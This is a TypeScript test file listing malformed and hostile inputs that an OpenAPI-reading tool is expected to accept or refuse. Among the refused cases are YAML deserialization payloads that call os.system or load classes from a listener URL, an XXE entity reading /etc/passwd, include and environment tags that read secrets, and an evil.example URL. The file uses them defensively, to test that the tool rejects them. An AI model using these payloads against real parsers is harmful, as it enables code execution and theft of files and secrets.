import { api, type Case, type Content, each, withSpec } from "../case.ts";

const json = JSON.stringify(api());
const yaml =
  "openapi: 3.1.0\ninfo: { title: x, version: '1' }\npaths: { /a: { get: { responses: { 200: { description: ok } } } } }\n";
const bytes = (...parts: readonly (string | readonly number[])[]): Uint8Array =>
  new Uint8Array(
    Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part) : Buffer.from(part)))),
  );
const utf16 = (text: string, bom: readonly number[]): Uint8Array => {
  const encoded = Buffer.from(text, "utf16le");
  return bytes(bom, [...(bom[0] === 0xfe ? encoded.swap16() : encoded)]);
};

const good: Case[] = each<string, string, Content>(
  [
    ["a byte order mark", "openapi.json", bytes([0xef, 0xbb, 0xbf], json)],
    ["a byte order mark, YAML", "openapi.yaml", bytes([0xef, 0xbb, 0xbf], yaml)],
    ["blanks and lines before it", "openapi.json", `\n\r\n \t${json}\n`],
    ["carriage returns, YAML", "openapi.yaml", yaml.replaceAll("\n", "\r\n")],
    ["JSON in a file called YAML", "openapi.yaml", json],
    ["YAML in a file called JSON", "openapi.json", yaml],
    ["a document's start and end in YAML", "openapi.yaml", `%YAML 1.2\n---\n${yaml}...\n`],
    ["numbers and booleans as keys", "openapi.yaml", `${yaml}x-a: { 1: a, 2.0: b, true: c, null: d, 0x10: e }\n`],
    [
      "dates, octals and words that older YAML takes for booleans",
      "openapi.yaml",
      `${yaml}x-a: [2020-01-01, 0777, 0o17, yes, no, on, off, 1_000, 12:30:45, .5, ~]\n`,
    ],
  ] as const,
  (what, file, content) => ({
    name: `a document with ${what}`,
    files: { [`in/${file}`]: content },
    args: withSpec(`in/${file}`),
  }),
  "accepted",
);

const bad: Case[] = each<string, string, Content>(
  [
    ["nothing in it", "openapi.json", ""],
    ["blanks only", "openapi.yaml", " \n\t\n"],
    ["a comment only", "openapi.yaml", "# nothing\n"],
    ["UTF-16, little end first", "openapi.json", utf16(json, [0xff, 0xfe])],
    ["UTF-16, big end first", "openapi.json", utf16(json, [0xfe, 0xff])],
    ["UTF-16 without a mark", "openapi.json", utf16(json, [])],
    ["bytes that are no text", "openapi.json", bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13])],
    ["random bytes", "openapi.yaml", bytes(Array.from({ length: 4096 }, (_, index) => (index * 7919 + 13) % 256))],
    ["NUL bytes", "openapi.json", bytes([0, 0, 0, 0, 0, 0])],
    ["a NUL in a key", "openapi.yaml", bytes("openapi: 3.1.0\nin", [0], "fo: x\n")],
    ["a truncated end", "openapi.json", json.slice(0, -40)],
    ["a truncated end, YAML", "openapi.yaml", "openapi: 3.1.0\ninfo: { title: 'x"],
    ["something after its end", "openapi.json", `${json}p_wned()`],
    ["a comment", "openapi.json", json.replace("{", "{ /* p_wned() */")],
    ["a trailing comma", "openapi.json", json.replace(/\}$/, ",}")],
    ["NaN", "openapi.json", json.replace('"1"', "NaN")],
    ["single quotes", "openapi.json", json.replaceAll('"', "'").replace("{'", '{"')],
    ["duplicate keys, YAML", "openapi.yaml", `${yaml}info: { title: y, version: '2' }\n`],
    ["the same key as number and as text, YAML", "openapi.yaml", `${yaml}x-a: { 1: a, "1": b }\n`],
    ["merge keys", "openapi.yaml", `x-b: &b { a: 1 }\n${yaml}x-a: { <<: *b }\n`],
    ["a function's tag", "openapi.yaml", `${yaml}x-a: !!js/function 'function () { p_wned() }'\n`],
    ["a regular expression's tag", "openapi.yaml", `${yaml}x-a: !!js/regexp /(a+)+$/\n`],
    ["an undefined's tag", "openapi.yaml", `${yaml}x-a: !!js/undefined ''\n`],
    ["a Python object's tag", "openapi.yaml", `${yaml}x-a: !!python/object/apply:os.system ["touch %OUTSIDE%/made"]\n`],
    [
      "a Java object's tag",
      "openapi.yaml",
      `${yaml}x-a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["%LISTENER%/"]]]]\n`,
    ],
    ["a Ruby object's tag", "openapi.yaml", `${yaml}x-a: !ruby/object:Gem::Installer { i: x }\n`],
    ["an include's tag", "openapi.yaml", `${yaml}x-a: !include ../secret.yaml\n`],
    ["an environment's tag", "openapi.yaml", `${yaml}x-a: !ENV SPECIE_SECRET\n`],
    ["bytes in base 64", "openapi.yaml", `${yaml}x-a: !!binary aGVsbG8=\n`],
    ["a set", "openapi.yaml", `${yaml}x-a: !!set { a, b }\n`],
    ["an ordered map", "openapi.yaml", `${yaml}x-a: !!omap [a: 1]\n`],
    ["a tag made by a directive", "openapi.yaml", `%TAG ! tag:evil.example,2026:\n---\n${yaml}x-a: !x y\n`],
    ["several YAML documents", "openapi.yaml", `${yaml}---\n${yaml}`],
    ["keys that are lists and objects", "openapi.yaml", `${yaml}x-a: { [a, b]: c, {d: e}: f }\n`],
    ["infinity", "openapi.yaml", `${yaml}x-a: .inf\n`],
    ["not a number", "openapi.yaml", `${yaml}x-a: [.nan]\n`],
    ["a version of YAML that isn't", "openapi.yaml", `%YAML 9.9\n---\n${yaml}x: @\n`],
    ["tabs for indentation", "openapi.yaml", "openapi: 3.1.0\ninfo:\n\ttitle: x\n"],
    ["a list for a document", "openapi.json", "[1, 2]"],
    ["a text for a document", "openapi.yaml", "just text\n"],
    ["null for a document", "openapi.yaml", "null\n"],
    ["a number for a document", "openapi.json", "123"],
    ["no version", "openapi.json", "{}"],
    ["a version from the future", "openapi.json", '{"openapi":"4.0.0","info":{},"paths":{}}'],
    ["a version that is an object", "openapi.json", '{"openapi":{"toString":"x"},"paths":{}}'],
    ["two versions and no paths", "openapi.json", '{"openapi":"3.1.0","swagger":"2.0"}'],
    ["XML", "openapi.json", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
    ["JavaScript", "openapi.json", "module.exports = p_wned()"],
    ["JSON with a prefix", "openapi.json", `)]}',\n${json}`],
    ["JSON line by line", "openapi.json", `${json}\n${json}\n`],
    ["lone surrogates for keys", "openapi.json", '{"openapi":"3.1.0","\\ud800":1,"paths":{"\\udfff":{}}}'],
  ] as const,
  (what, file, content) => ({
    name: `a document with ${what}`,
    files: { [`in/${file}`]: content },
    args: withSpec(`in/${file}`),
    says: /^(in\/[^\n]+: error |error: )/,
  }),
  "refused",
);

const places: Case[] = [
  { name: "a document that doesn't exist", expect: "refused", says: /does not exist/ },
  { name: "a folder without a document", args: withSpec("in"), expect: "refused", says: /holds no openapi/ },
  { name: "a folder called like a document", files: { "in/openapi.json/x": "" }, expect: "refused" },
  { name: "a pipe", pipes: ["in/openapi.json"], expect: "refused" },
  { name: "a link to a device that never ends", links: { "in/openapi.json": "/dev/zero" }, expect: "refused" },
  { name: "a device that never ends", args: withSpec("/dev/zero"), mayTouch: ["/dev/zero"], expect: "refused" },
  { name: "a link that leads nowhere", links: { "in/openapi.json": "nowhere.json" }, expect: "refused" },
  { name: "a path with a NUL in it", args: withSpec("in/a\u0000b.json"), expect: "refused" },
  { name: "a path that is too long", args: withSpec(`in/${"a".repeat(5000)}.json`), expect: "refused" },
  {
    name: "a URL of a scheme that is not the network's",
    args: withSpec("ftp://evil.example/x.json"),
    expect: "refused",
  },
  { name: "a file: URL", args: withSpec("file:///etc/passwd"), expect: "refused" },
  { name: "a URL that is none", args: withSpec("http://[::1"), expect: "refused" },
];

const types: Case[] = each<string, object, undefined>(
  [
    [
      "a list where an object is expected, everywhere",
      {
        openapi: "3.1.0",
        info: [],
        paths: { "/a": { get: { parameters: {}, tags: {}, responses: [], security: {} } } },
        components: [],
        servers: {},
        tags: {},
        security: {},
        webhooks: [],
      },
    ],
    [
      "null everywhere",
      {
        openapi: "3.1.0",
        info: null,
        paths: {
          "/a": { get: null, parameters: null, post: { parameters: [null], requestBody: null, responses: null } },
        },
        components: { schemas: null, parameters: { a: null } },
        servers: [null],
        tags: [null],
        security: [null],
        webhooks: { a: null },
      },
    ],
    [
      "numbers everywhere",
      {
        openapi: "3.1.0",
        info: 1,
        paths: {
          "/a": {
            get: 1,
            post: { operationId: 1, summary: 2, tags: [3], parameters: [{ name: 1, in: 2 }], responses: { 200: 1 } },
          },
        },
        components: { schemas: { A: 1, B: { type: 1, properties: 1, enum: 1, required: 1 } } },
      },
    ],
    [
      "objects where texts are expected",
      {
        openapi: "3.1.0",
        info: { title: {}, version: [] },
        paths: {
          "/a": {
            post: {
              operationId: {},
              summary: {},
              tags: [{}],
              description: [],
              parameters: [{ name: {}, in: {} }],
              responses: {
                "200": {
                  description: {},
                  content: {
                    "application/json": {
                      schema: { type: {}, title: {}, enum: {}, const: {}, description: [], format: {} },
                    },
                  },
                },
              },
            },
          },
        },
      },
    ],
  ] as const,
  (what, document) => ({ name: `a document with ${what}`, files: { "in/openapi.json": document } }),
  "accepted",
);

export const malformed: readonly Case[] = [...good, ...bad, ...places, ...types];
